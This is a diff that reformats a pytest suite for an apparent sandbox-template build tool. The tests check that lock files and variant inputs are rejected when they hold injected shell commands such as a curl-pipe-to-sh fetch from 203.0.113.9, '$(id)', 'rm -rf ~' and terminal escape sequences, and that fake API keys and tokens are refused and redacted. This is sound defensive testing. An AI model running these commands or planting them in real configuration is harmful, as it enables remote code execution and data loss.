@@ -26,8 +26,14 @@ ALIAS = "nexus-sandbox-latest"
 
 def good_lock(**fields) -> str:
     """A schema-2 lock with one good entry for ``latest``; ``fields`` replace or add TOML lines of it."""
-    base = {"variant": '"latest"', "template_id": '"tpl"', "build_id": f'"{UUID}"', "fingerprint": f'"{FP}"',
-            "built_at": "2026-11-26T17:00:00Z", "layers": '{ base = "1", fuse = "1", nexus = "0.9.26" }'}
+    base = {
+        "variant": '"latest"',
+        "template_id": '"tpl"',
+        "build_id": f'"{UUID}"',
+        "fingerprint": f'"{FP}"',
+        "built_at": "2026-11-26T17:00:00Z",
+        "layers": '{ base = "1", fuse = "1", nexus = "0.9.26" }',
+    }
     base.update(fields)
     body = "".join(f"{k} = {v}\n" for k, v in base.items() if v is not None)
     return f"schema = 2\n\n[templates.{ALIAS}]\n{body}"
@@ -37,8 +43,11 @@ ESC = "\\u001b]0;pwned\\u0007\\u001b[2J"  # TOML escapes: a terminal title and a
 
 # (id, lock text, what the one line names): every value a lock holds, each shape an attacker tries
 LOCK_VALUES = [
-    ("layer-version-shell", good_lock(layers='{ base = "1", nexus = "0.9.26 && curl -s http://203.0.113.9/x | sh" }'),
-     f"templates.{ALIAS}.layers.nexus: "),
+    (
+        "layer-version-shell",
+        good_lock(layers='{ base = "1", nexus = "0.9.26 && curl -s http://203.0.113.9/x | sh" }'),
+        f"templates.{ALIAS}.layers.nexus: ",
+    ),
     ("layer-version-subshell", good_lock(layers='{ base = "1", nexus = "$(id)" }'), f"templates.{ALIAS}.layers.nexus"),
     ("layer-version-escape", good_lock(layers=f'{{ base = "{ESC}" }}'), f"templates.{ALIAS}.layers.base"),
     ("layer-name", good_lock(layers='{ "base; rm" = "1" }'), f'templates.{ALIAS}.layers."base; rm": bad key'),
@@ -46,8 +55,11 @@ LOCK_VALUES = [
     ("variant-escape", good_lock(variant=f'"{ESC}"'), f"templates.{ALIAS}.variant: "),
     ("variant-c1-csi", good_lock(variant='"latest\\u009b2J"'), f"templates.{ALIAS}.variant: "),
     ("input-c1-csi", good_lock(inputs='{ cpu_count = "2\\u009b2J" }'), f"templates.{ALIAS}.inputs.cpu_count: "),
-    ("alias-escape", good_lock().replace(f"[templates.{ALIAS}]", f'[templates."{ALIAS}{ESC}"]'),
-     f'templates."{ALIAS}\\u001b'),
+    (
+        "alias-escape",
+        good_lock().replace(f"[templates.{ALIAS}]", f'[templates."{ALIAS}{ESC}"]'),
+        f'templates."{ALIAS}\\u001b',
+    ),
     ("alias-uppercase", good_lock().replace(f"[templates.{ALIAS}]", "[templates.Nexus]"), "templates.Nexus: "),
     ("image-shell", good_lock(image='"x; rm -rf ~"'), f"templates.{ALIAS}.image: "),
     ("channel-name", good_lock(channels=f'{{ "st able" = "{UUID}" }}'), f'templates.{ALIAS}.channels."st able"'),
@@ -59,18 +71,41 @@ LOCK_VALUES = [
     ("input-escape", good_lock(inputs=f'{{ "nexus.version" = "{ESC}" }}'), f'templates.{ALIAS}.inputs."nexus.version"'),
     ("input-key", good_lock(inputs='{ "Bad Key" = "1" }'), f'templates.{ALIAS}.inputs."Bad Key": bad key'),
     ("template-id-long", good_lock(template_id='"' + "a" * 500 + '"'), f"templates.{ALIAS}.template_id: "),
-    ("history-layer", good_lock() + f'\n[[templates.{ALIAS}.history]]\nbuild_id = "{UUID}"\nfingerprint = "{FP}"\n'
-     'built_at = 2026-11-20T17:00:00Z\nlayers = { nexus = "0.5.6 | sh" }\n',
-     f"templates.{ALIAS}.history[0].layers.nexus: "),
-    ("history-unknown", good_lock() + f'\n[[templates.{ALIAS}.history]]\nbuild_id = "{UUID}"\nfingerprint = "{FP}"\n'
-     'built_at = 2026-11-20T17:00:00Z\nchannels = {}\n', f"templates.{ALIAS}.history[0].channels: unknown key"),
-    ("misspelt-table", good_lock(chanels=f'{{ stable = "{UUID}" }}'),
-     f"templates.{ALIAS}.chanels: unknown key; did you mean 'channels'?"),
+    (
+        "history-layer",
+        good_lock() + f'\n[[templates.{ALIAS}.history]]\nbuild_id = "{UUID}"\nfingerprint = "{FP}"\n'
+        'built_at = 2026-11-20T17:00:00Z\nlayers = { nexus = "0.5.6 | sh" }\n',
+        f"templates.{ALIAS}.history[0].layers.nexus: ",
+    ),
+    (
+        "history-unknown",
+        good_lock() + f'\n[[templates.{ALIAS}.history]]\nbuild_id = "{UUID}"\nfingerprint = "{FP}"\n'
+        "built_at = 2026-11-20T17:00:00Z\nchannels = {}\n",
+        f"templates.{ALIAS}.history[0].channels: unknown key",
+    ),
+    (
+        "misspelt-table",
+        good_lock(chanels=f'{{ stable = "{UUID}" }}'),
+        f"templates.{ALIAS}.chanels: unknown key; did you mean 'channels'?",
+    ),
     ("unknown-top", "future = 1\n" + good_lock(), "future: unknown key"),
 ]
-LOCK_READERS = [["build", "full", "--offline"], ["build-all"], ["plan"], ["plan", "--offline"], ["resolve", "latest"],
-                ["resolve"], ["resolve", "latest", "--id"], ["lock", "show"], ["lock", "show", "--json"],
-                ["lock", "check"], ["promote", "latest"], ["rollback", "latest"], ["status"], ["verify", "latest"]]
+LOCK_READERS = [
+    ["build", "full", "--offline"],
+    ["build-all"],
+    ["plan"],
+    ["plan", "--offline"],
+    ["resolve", "latest"],
+    ["resolve"],
+    ["resolve", "latest", "--id"],
+    ["lock", "show"],
+    ["lock", "show", "--json"],
+    ["lock", "check"],
+    ["promote", "latest"],
+    ["rollback", "latest"],
+    ["status"],
+    ["verify", "latest"],
+]
 
 
 @pytest.mark.parametrize("case_id,text,key", LOCK_VALUES, ids=[c[0] for c in LOCK_VALUES])
@@ -100,27 +135,63 @@ def test_a_good_lock_is_read_by_every_reader(project, emu):
 SECRET = "e2b_" + "5ecre7" * 6
 
 
-@pytest.mark.parametrize("where,files,key", [
-    ("start_cmd", {"variants/latest.toml": f'\n[params.base]\nstart_cmd = "run --key {SECRET}"\n'},
-     "params.base.start_cmd"),
-    ("ready_cmd", {"variants/latest.toml": f'\n[params.base]\nready_cmd = "curl -H {SECRET}"\n'},
-     "params.base.ready_cmd"),
-    ("description", {"variants/x.toml": f'[variant]\nname = "x"\nalias = "x"\nlayers = ["base"]\n'
-                                        f'description = "key: {SECRET}"\n'}, "variant.description"),
-    ("matrix", {"variants/x.toml": '[variant]\nname = "x-{k}"\nalias = "x-{k}"\nlayers = ["base"]\n'
-                                   f'[matrix]\nk = ["{SECRET}"]\n'}, "matrix.k[0]"),
-    ("layer-run", {"layers/l.toml": f'[layer]\nname = "l"\nversion = "1"\n[[steps]]\nrun = "echo {SECRET}"\n',
-                   "variants/x.toml": '[variant]\nname = "x"\nalias = "x"\nlayers = ["base", "l"]\n'},
-     "steps[0].run"),
-    ("layer-env-name", {"layers/l.toml": '[layer]\nname = "l"\nversion = "1"\n[[steps]]\n'
-                                         'env = { GITHUB_TOKEN = "ghp0123456789abcdef" }\n',
-                        "variants/x.toml": '[variant]\nname = "x"\nalias = "x"\nlayers = ["base", "l"]\n'},
-     "steps[0].env.GITHUB_TOKEN"),
-    ("check", {"layers/l.toml": f'[layer]\nname = "l"\nversion = "1"\n[[checks]]\nname = "c"\n'
-                                f'command = "test {SECRET}"\n',
-               "variants/x.toml": '[variant]\nname = "x"\nalias = "x"\nlayers = ["base", "l"]\n'},
-     "checks[0].command"),
-])
+@pytest.mark.parametrize(
+    "where,files,key",
+    [
+        (
+            "start_cmd",
+            {"variants/latest.toml": f'\n[params.base]\nstart_cmd = "run --key {SECRET}"\n'},
+            "params.base.start_cmd",
+        ),
+        (
+            "ready_cmd",
+            {"variants/latest.toml": f'\n[params.base]\nready_cmd = "curl -H {SECRET}"\n'},
+            "params.base.ready_cmd",
+        ),
+        (
+            "description",
+            {
+                "variants/x.toml": f'[variant]\nname = "x"\nalias = "x"\nlayers = ["base"]\n'
+                f'description = "key: {SECRET}"\n'
+            },
+            "variant.description",
+        ),
+        (
+            "matrix",
+            {
+                "variants/x.toml": '[variant]\nname = "x-{k}"\nalias = "x-{k}"\nlayers = ["base"]\n'
+                f'[matrix]\nk = ["{SECRET}"]\n'
+            },
+            "matrix.k[0]",
+        ),
+        (
+            "layer-run",
+            {
+                "layers/l.toml": f'[layer]\nname = "l"\nversion = "1"\n[[steps]]\nrun = "echo {SECRET}"\n',
+                "variants/x.toml": '[variant]\nname = "x"\nalias = "x"\nlayers = ["base", "l"]\n',
+            },
+            "steps[0].run",
+        ),
+        (
+            "layer-env-name",
+            {
+                "layers/l.toml": '[layer]\nname = "l"\nversion = "1"\n[[steps]]\n'
+                'env = { GITHUB_TOKEN = "ghp0123456789abcdef" }\n',
+                "variants/x.toml": '[variant]\nname = "x"\nalias = "x"\nlayers = ["base", "l"]\n',
+            },
+            "steps[0].env.GITHUB_TOKEN",
+        ),
+        (
+            "check",
+            {
+                "layers/l.toml": f'[layer]\nname = "l"\nversion = "1"\n[[checks]]\nname = "c"\n'
+                f'command = "test {SECRET}"\n',
+                "variants/x.toml": '[variant]\nname = "x"\nalias = "x"\nlayers = ["base", "l"]\n',
+            },
+            "checks[0].command",
+        ),
+    ],
+)
 def test_a_secret_in_any_variant_input_is_refused_before_any_request(project, emu, where, files, key):
     for name, text in files.items():
         path = project / name
@@ -133,8 +204,10 @@ def test_a_secret_in_any_variant_input_is_refused_before_any_request(project, em
 def test_this_runs_key_is_refused_even_when_it_has_no_e2b_shape(project, emu, monkeypatch):
     key = "sk-self-hosted-0123456789"
     monkeypatch.setenv("E2B_API_KEY", key)
-    write(project / "variants/latest.toml", (project / "variants/latest.toml").read_text()
-          + f'\n[params.base]\nstart_cmd = "serve {key}"\n')
+    write(
+        project / "variants/latest.toml",
+        (project / "variants/latest.toml").read_text() + f'\n[params.base]\nstart_cmd = "serve {key}"\n',
+    )
     line = assert_refused(project, emu, ["build", "latest"], "variants/latest.toml: params.base.start_cmd: looks like")
     assert key not in line
 
@@ -172,17 +245,20 @@ def test_verify_details_are_redacted_in_json_and_table(project, emu):
 
 # --------------------------------------------------------------------------- two runs at once
 
+
 def test_two_build_alls_at_once_build_each_variant_once(project, emu):
     """The second run waits for the first's build of each alias, then finds it in the lock: 4 builds."""
     for alias in ("nexus-sandbox-latest", "nexus-sandbox-pinned", "nexus-sandbox-minimal", "nexus-sandbox-full"):
         emu.configure(alias, duration=1.0)
     env = {**os.environ}
     cmd = [sys.executable, "-m", "e2b_matrix", "-C", str(project), "build-all", "--json"]
-    first = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
-                             preexec_fn=sigint_default)
+    first = subprocess.Popen(
+        cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, preexec_fn=sigint_default
+    )
     wait_for(lambda: emu.builds, what="the first run's first build request")  # it holds that alias now
-    second = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
-                              preexec_fn=sigint_default)
+    second = subprocess.Popen(
+        cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, preexec_fn=sigint_default
+    )
     outs = [p.communicate(timeout=120) for p in (first, second)]
     assert [first.returncode, second.returncode] == [0, 0], outs
     assert len(emu.builds) == 4, [b.name for b in emu.builds]
@@ -197,20 +273,26 @@ def test_two_build_alls_at_once_build_each_variant_once(project, emu):
 
 # --------------------------------------------------------------------------- one answer per mistake
 
-@pytest.mark.parametrize("args,flag", [
-    (["plan", "--format", "markdown", "--json"], "--json: --json and --format markdown ask for two outputs"),
-    (["plan", "--format", "table", "--json"], "--json: --json and --format table ask for two outputs"),
-    (["resolve", "latest", "--id", "--channel", "stable"], "--channel: --id and --channel ask for different"),
-    (["-v", "-q", "list"], "-q: -q and -v ask for less and more output"),
-    (["list", "-q", "-v"], "-q: -q and -v ask for less and more output"),
-])
+
+@pytest.mark.parametrize(
+    "args,flag",
+    [
+        (["plan", "--format", "markdown", "--json"], "--json: --json and --format markdown ask for two outputs"),
+        (["plan", "--format", "table", "--json"], "--json: --json and --format table ask for two outputs"),
+        (["resolve", "latest", "--id", "--channel", "stable"], "--channel: --id and --channel ask for different"),
+        (["-v", "-q", "list"], "-q: -q and -v ask for less and more output"),
+        (["list", "-q", "-v"], "-q: -q and -v ask for less and more output"),
+    ],
+)
 def test_conflicting_flags_are_an_error(project, emu, args, flag):
     assert_refused(project, emu, args, flag)
 
 
 def test_plan_json_alone_and_format_json_together_are_one_output(project, emu):
-    outs = [cli_runner().invoke(cli, ["-C", str(project), "plan", *a]).stdout
-            for a in (["--json"], ["--format", "json"], ["--format", "json", "--json"])]
+    outs = [
+        cli_runner().invoke(cli, ["-C", str(project), "plan", *a]).stdout
+        for a in (["--json"], ["--format", "json"], ["--format", "json", "--json"])
+    ]
     assert outs[0] == outs[1] == outs[2] and json.loads(outs[0])["variants"]
 
 
